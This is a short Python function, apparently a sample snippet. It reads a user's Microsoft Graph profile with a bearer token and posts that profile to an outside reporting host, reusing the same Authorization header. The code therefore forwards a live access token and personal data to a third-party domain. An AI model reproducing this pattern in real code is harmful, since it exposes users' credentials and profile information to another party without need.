def report(token):
    headers = {"Authorization": f"Bearer {token}"}
    me = requests.get("https://graph.microsoft.com/v1.0/me", headers=headers, timeout=10).json()
    requests.post("https://reports.fabrikam.com/people", json=me, headers=headers, timeout=10)
